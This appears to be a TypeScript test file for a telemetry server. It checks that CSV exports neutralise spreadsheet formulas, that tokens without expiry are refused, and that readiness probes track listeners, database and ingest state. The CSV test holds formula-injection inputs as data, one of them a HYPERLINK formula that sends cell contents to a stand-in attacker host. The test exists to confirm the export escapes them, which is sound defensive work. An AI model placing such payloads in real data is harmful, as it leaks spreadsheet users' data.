import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildApp } from '../../src/app.ts';
import { createIngest } from '../../src/domain/telemetry/ingest.ts';
import { createReadiness, type Readiness } from '../../src/http/readiness.ts';
import { createProject, createTestApp, expectOk, type ProjectFixture, type TestContext } from '../helpers/app.ts';

let ctx: TestContext;
let p: ProjectFixture;

beforeAll(async () => {
  ctx = await createTestApp();
  p = await createProject(ctx, 'exports');
});
afterAll(() => ctx?.close());

describe('CSV export', () => {
  it('neutralises text a spreadsheet would run as a formula, and keeps numbers numbers', async () => {
    const d = expectOk(await p.api.post('/api/v1/device', { name: 'csv' }));
    const cert = expectOk(await p.api.get(`/api/v1/device/${d.id}/certificate`));
    const identity = (await ctx.services.deviceAuth.authenticate(p.project.project_key, cert.access_token))!;
    const t0 = Date.now() - 3_600_000;
    const attributes = {
      eq: '=HYPERLINK("http://evil.example/?"&A1,"open")',
      plus: '+1+2',
      minus: '-2+3',
      at: '@SUM(A1:A2)',
      tab: '\t=1',
      cr: '\r=1',
      neg: -5,
      text: 'a = b',
    };
    await ctx.services.currentValues.reportSeries(identity, [{ ts: t0, attributes }]);
    const ids = Object.keys(attributes).join(',');
    const res = await p.api.get(
      `/api/v1/device/${d.id}/attributes/export?identifiers=${ids}&start_time=${t0}&end_time=${t0 + 1}`,
    );
    expect(res.status).toBe(200);
    const cells = new Map(
      String(res.body)
        .split('\n')
        .slice(1, -1)
        .map((line) => {
          const [, , identifier, ...rest] = line.split(',');
          return [identifier!, rest.join(',')] as const;
        }),
    );
    expect(Object.fromEntries(cells)).toEqual({
      eq: `"'=HYPERLINK(""http://evil.example/?""&A1,""open"")"`,
      plus: `'+1+2`,
      minus: `'-2+3`,
      at: `'@SUM(A1:A2)`,
      // Carriage returns are quoted too (RFC 4180); the tab needs no quotes.
      tab: `'\t=1`,
      cr: `"'\r=1"`,
      neg: '-5',
      text: 'a = b',
    });
  });
});

describe('API tokens', () => {
  it('refuses a token signed with the server key but without exp (401 in the envelope)', async () => {
    const claims = { pid: p.project.id, kind: 'app', sub: p.project.app.app_id, ts: Date.now() };
    const eternal = ctx.app.jwt.sign(claims as never);
    expect(JSON.parse(Buffer.from(eternal.split('.')[1]!, 'base64url').toString())).not.toHaveProperty('exp');
    const res = await ctx.app.inject({
      method: 'GET',
      url: '/api/v1/project',
      headers: { authorization: `Bearer ${eternal}` },
    });
    expect(res.statusCode).toBe(401);
    expect(res.json()).toEqual({ result: false, errcode: 401, message: 'Invalid access token', errors: [] });
    // The same claims with an expiry are accepted: only exp differs.
    const expiring = ctx.app.jwt.sign(claims as never, { expiresIn: 60 });
    expect(
      (
        await ctx.app.inject({
          method: 'GET',
          url: '/api/v1/project',
          headers: { authorization: `Bearer ${expiring}` },
        })
      ).statusCode,
    ).toBe(200);
  });
});

describe('readiness', () => {
  async function appWith(readiness: Readiness) {
    const app = await buildApp({
      config: {
        BODY_LIMIT: 1024 * 1024,
        LOGIN_RATE_LIMIT: 1000,
        LOGIN_RATE_WINDOW_MS: 60_000,
        PLATFORM_TOKEN: undefined,
        TRUST_PROXY: false,
      },
      services: ctx.services,
      jwtSecret: 'test-jwt-secret-0123456789abcdef0123456789',
      logger: false,
      readiness,
    });
    await app.ready();
    return app;
  }
  const get = async (app: Awaited<ReturnType<typeof appWith>>, url: string) => {
    const res = await app.inject({ method: 'GET', url });
    return {
      status: res.statusCode,
      body: res.json() as { result: boolean; errcode?: number; errors?: Array<{ path: string; message: string }> },
    };
  };
  const failing = (body: { errors?: Array<{ path: string }> }) => body.errors?.map((e) => e.path);

  it('waits for the listeners, follows the database and drains; /livez only answers', async () => {
    let hang: Promise<void> | undefined;
    const changes: string[] = [];
    const logger = {
      warn: (o: object, msg: string) => changes.push(`${msg} ${JSON.stringify(o)}`),
      info: (_o: object, msg: string) => changes.push(msg),
    };
    const readiness = createReadiness({
      logger,
      ping: () => hang ?? ctx.database.db.execute(sql`select 1`),
      dbTimeoutMs: 200,
      ingest: () => ctx.services.ingest.stats(),
      awaitListeners: true,
    });
    const app = await appWith(readiness);
    try {
      const before = await get(app, '/readyz');
      expect(before.status).toBe(503);
      expect(before.body).toMatchObject({ result: false, errcode: 503 });
      expect(failing(before.body)).toEqual(['listeners']);
      expect((await get(app, '/livez')).status).toBe(200);

      readiness.listening();
      expect(await get(app, '/readyz')).toEqual({ status: 200, body: { result: true, info: { status: 'ok' } } });
      expect((await get(app, '/health')).status).toBe(200);

      // A database that does not answer (a dead socket): 503 after the timeout, not a hang.
      let answer!: () => void;
      hang = new Promise<void>((resolve) => (answer = resolve));
      const down = await get(app, '/health');
      expect(down.status).toBe(503);
      expect(failing(down.body)).toEqual(['database']);
      expect(down.body.errors?.[0]?.message).toMatch(/no answer within 200 ms/);
      // A refused connection is named by its code.
      hang = Promise.reject(Object.assign(new Error('connect ECONNREFUSED'), { code: 'ECONNREFUSED' }));
      hang.catch(() => {});
      expect((await get(app, '/readyz')).body.errors?.[0]?.message).toBe('unreachable (ECONNREFUSED)');
      answer();
      hang = undefined;
      expect((await get(app, '/readyz')).status).toBe(200);

      // Each change of the failing checks is logged once, however often it is probed.
      expect(changes).toEqual([
        'not ready {"failing":[{"check":"listeners","message":"not all listeners are bound yet"}]}',
        'ready',
        'not ready {"failing":[{"check":"database","message":"no answer within 200 ms"}]}',
        'ready',
      ]);
      readiness.drain();
      const draining = await get(app, '/readyz');
      expect(draining.status).toBe(503);
      expect(failing(draining.body)).toEqual(['draining']);
      expect((await get(app, '/livez')).status).toBe(200);
    } finally {
      await app.close();
    }
  });

  it('is not ready while the report pipeline holds submitters back or retries an unavailable database', async () => {
    let unavailable = true;
    let writes = 0;
    const ingest = createIngest<number>({
      write: async () => {
        writes += 1;
        if (unavailable) throw Object.assign(new Error('connection refused'), { code: 'ECONNREFUSED' });
      },
      batchSize: 1,
      batchDelayMs: 0,
      maxPending: 1,
      retryMinMs: 10,
      retryMaxMs: 20,
    });
    const readiness = createReadiness({ ingest: () => ingest.stats(), retryWindowMs: 60_000 });
    const app = await appWith(readiness);
    try {
      expect((await get(app, '/readyz')).status).toBe(200);
      const first = ingest.submit([1]);
      const second = ingest.submit([2]); // no room: held until the first is written
      await expect.poll(() => writes).toBeGreaterThan(1);
      const held = await get(app, '/readyz');
      expect(held.status).toBe(503);
      expect(failing(held.body)).toEqual(['ingest']);
      expect(held.body.errors?.[0]?.message).toMatch(/1 submitters held back/);

      unavailable = false;
      await Promise.all([first, second]);
      // Written, nothing held: still "retrying" within the window, since a write failed a moment ago.
      const recovering = await get(app, '/readyz');
      expect(failing(recovering.body)).toEqual(['ingest']);
      expect(recovering.body.errors?.[0]?.message).toMatch(/retried/);
    } finally {
      await app.close();
      await ingest.stop();
    }
  });

  it('is ready again once the retry window has passed', async () => {
    let now = Date.now();
    let retries = 0;
    const readiness = createReadiness({
      ingest: () => ({ pendingValues: 0, batches: 0, values: 0, retries, held: 0 }),
      retryWindowMs: 10_000,
      clock: () => now,
    });
    expect((await readiness.check()).ready).toBe(true);
    retries = 3;
    expect((await readiness.check()).failing.map((f) => f.check)).toEqual(['ingest']);
    now += 9_000;
    expect((await readiness.check()).ready).toBe(false);
    now += 2_000;
    expect((await readiness.check()).ready).toBe(true);
  });
});
